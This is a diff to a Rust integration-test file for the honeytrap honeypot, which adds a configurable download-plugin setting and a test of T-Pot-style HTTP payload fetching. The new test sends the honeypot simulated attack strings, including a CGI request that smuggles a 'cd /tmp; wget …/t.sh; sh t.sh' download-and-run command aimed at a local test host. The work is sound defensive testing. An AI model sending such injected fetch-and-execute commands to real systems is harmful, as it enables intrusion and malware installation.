@@ -118,6 +118,15 @@ struct Lab {
 
 impl Lab {
     fn start(files: &[(&str, &[u8])], extra: &str) -> Lab {
+        Lab::start_with(
+            files,
+            extra,
+            "plugin-ftpDownload = \"\"\nplugin-tftpDownload = \"\"\nplugin-httpDownload = \"\"",
+        )
+    }
+
+    /// The lab with the decoders, SaveFile and the download plugins `downloads`.
+    fn start_with(files: &[(&str, &[u8])], extra: &str, downloads: &str) -> Lab {
         let pair = Pair::new();
         let dir = TempDir::new("downloads");
         for d in ["attacks", "downloads", "www", "tmp", "tftp", "ftp"] {
@@ -186,8 +195,7 @@ impl Lab {
             dir.path(),
             &format!(
                 "monitor = \"nfq\"\ndownload_timeout = \"15\"\n{extra}\n\
-                 plugin-b64Decode = \"\"\nplugin-deUnicode = \"\"\nplugin-vncDownload = \"\"\n\
-                 plugin-ftpDownload = \"\"\nplugin-tftpDownload = \"\"\nplugin-httpDownload = \"\"\n\
+                 plugin-b64Decode = \"\"\nplugin-deUnicode = \"\"\nplugin-vncDownload = \"\"\n{downloads}\n\
                  plugin-SaveFile = {{ attacks_dir = \"{d}/attacks\" downloads_dir = \"{d}/downloads\" }}\n"
             ),
         );
@@ -695,4 +703,25 @@ fn collectors_get_the_events_samples_and_records_of_the_running_daemon() {
     assert_eq!(psql("honeytrap", "SELECT filename FROM downloads").as_deref(), Some("a.exe"));
     assert_eq!(psql("honeytrap", "SELECT name FROM sensors").as_deref(), Some("lab-2"));
     drop((subscriber, broker, pg_server));
+}
+
+#[test]
+fn tpot_plugins_fetch_http_with_the_builtin_client_unless_http_download_is_no() {
+    if !needs("tpot_plugins_fetch_http_with_the_builtin_client_unless_http_download_is_no") {
+        return;
+    }
+    let a = sample(61, 2000);
+    // T-Pot's download plugins: ftpDownload and tftpDownload, no httpDownload.
+    let tpot = "plugin-ftpDownload = \"\"\nplugin-tftpDownload = \"\"";
+    let lab = Lab::start_with(&[("t.sh", &a)], "", tpot);
+    lab.attack(format!("GET /cgi-bin/x?c=cd+/tmp;wget+http://{CLI4}/t.sh;sh+t.sh HTTP/1.1\r\n\r\n").into_bytes());
+    lab.expect_download("t.sh", &a);
+    drop(lab);
+
+    let lab = Lab::start_with(&[("t.sh", &a)], "http_download = \"no\"", tpot);
+    lab.attack(format!("wget http://{CLI4}/t.sh\n").into_bytes());
+    assert!(wait_for_text(&lab.path("honeytrap.log"), "bytes attack string from", T), "{}", lab.log());
+    std::thread::sleep(Duration::from_secs(2));
+    assert!(lab.downloads().is_empty(), "{:?}", lab.downloads());
+    assert!(!lab.log().contains("HTTP download"), "{}", lab.log());
 }
